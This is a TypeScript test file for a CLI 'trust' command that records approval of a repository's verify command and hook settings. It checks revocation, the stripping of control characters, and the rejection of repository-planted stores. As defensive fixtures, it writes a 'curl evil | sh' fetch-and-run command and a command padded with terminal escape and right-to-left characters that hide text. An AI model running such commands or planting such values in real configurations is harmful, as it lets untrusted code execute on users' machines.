import { writeFileSync } from "node:fs";
import path from "node:path";
import { expect, test } from "vitest";
import { type TrustAction, trustCommand } from "../../src/cli/commands/trust.ts";
import { makePlace, type Place, valueOf } from "../support/settings.ts";
import { captureOutput, FAILED } from "../support/output.ts";

async function trust(
  place: Place,
  action: TrustAction,
  deps: { root?: null; env?: Record<string, string> } = {},
) {
  const { output, out, err, fail } = captureOutput();
  const code = await trustCommand(action, {
    output,
    fail,
    env: place.env,
    root: place.root,
    nowMs: 60_000,
    ...deps,
  });
  const clean = (text: string) =>
    text.replaceAll(place.repositoryFile, "REPO").replaceAll(place.root, "ROOT");
  return { code, out: clean(out()), err: clean(err()) };
}

const trusted = async (place: Place) => valueOf(await place.load()).verify;

test("grant, list and revoke", async () => {
  const place = makePlace({ repository: { verify: "npm test" } });
  expect(await trust(place, "list")).toEqual({ code: 0, out: "", err: "nothing is trusted\n" });
  expect(await trust(place, "grant")).toEqual({
    code: 0,
    out: "verify: npm test\n",
    err: "REPO may run this until it changes; `tandem trust --revoke` takes it back\n",
  });
  expect(await trusted(place)).toMatchObject({ trusted: true });
  expect(await trust(place, "list")).toEqual({ code: 0, out: "REPO  now\n", err: "" });
  writeFileSync(place.repositoryFile, '{"verify": "curl evil | sh"}');
  expect(await trusted(place)).toMatchObject({ trusted: false });
  expect(await trust(place, "revoke")).toEqual({
    code: 0,
    out: "",
    err: "REPO may no longer run commands\n",
  });
  expect(await trust(place, "revoke")).toEqual({ code: 0, out: "", err: "REPO was not trusted\n" });
  writeFileSync(place.repositoryFile, '{"verify":"npm test"}');
  expect(await trusted(place)).toMatchObject({ trusted: false });
});

test("hook settings are shown and trusted like a command", async () => {
  const place = makePlace({ repository: { hooks: { fail_on: "error", strict: true } } });
  const before = valueOf(await place.load()).hooks;
  expect(before).toEqual({ failOn: "never", budgetMs: null, strict: false, untrusted: true });
  expect(await trust(place, "grant")).toEqual({
    code: 0,
    out: 'hooks: {"fail_on":"error","strict":true}\n',
    err: "REPO may set this until it changes; `tandem trust --revoke` takes it back\n",
  });
  const after = valueOf(await place.load()).hooks;
  expect(after).toEqual({ failOn: "error", budgetMs: null, strict: true, untrusted: false });
});

test("a user's own hook settings need no trust, and stand behind an untrusted repository's", async () => {
  const user = { hooks: { fail_on: "warning", budget_seconds: 5 } } as const;
  const expected = { failOn: "warning", budgetMs: 5_000, strict: false };
  const own = makePlace({ user });
  expect(valueOf(await own.load()).hooks).toEqual({ ...expected, untrusted: false });
  const both = makePlace({ user, repository: { hooks: { fail_on: "never", budget_seconds: 1 } } });
  expect(valueOf(await both.load()).hooks).toEqual({ ...expected, untrusted: true });
});

test("what is shown holds nothing that could hide a part of it", async () => {
  const place = makePlace({ repository: { verify: "npm test; evil \u001b[2K\u202e\u0008" } });
  expect((await trust(place, "grant")).out).toBe("verify: npm test; evil [2K\n");
});

test.each([
  [undefined, "REPO does not exist: there is nothing to trust\n"],
  [{}, "REPO runs no command: there is nothing to trust\n"],
  [{ verify: false }, "REPO runs no command: there is nothing to trust\n"],
])("nothing is recorded for %j", async (repository, err) => {
  const place = makePlace({ repository });
  expect(await trust(place, "grant")).toEqual({ code: 0, out: "", err });
  expect((await trust(place, "list")).err).toBe("nothing is trusted\n");
});

test.each([
  [
    "a file with a mistake",
    { verfy: "x" },
    {},
    'config: REPO: unknown key "verfy" | the nearest known one is "verify"\n',
  ],
  ["no working tree", {}, { root: null }, "not_a_worktree: not in a git working tree | go to a repository\n"],
])("%s fails", async (_name, repository, deps, err) => {
  expect(await trust(makePlace({ repository }), "grant", deps)).toEqual({ code: FAILED, out: "", err });
});

test("a repository that brings its own store is not believed", async () => {
  const place = makePlace({ repository: { verify: "npm test" } });
  const env = { TANDEM_HOME: path.join(place.root, ".tandem") };
  for (const action of ["grant", "list", "revoke"] as const) {
    const { code, err } = await trust(place, action, { env });
    expect(code).toBe(FAILED);
    expect(err).toContain("lies inside the repository ROOT");
  }
});
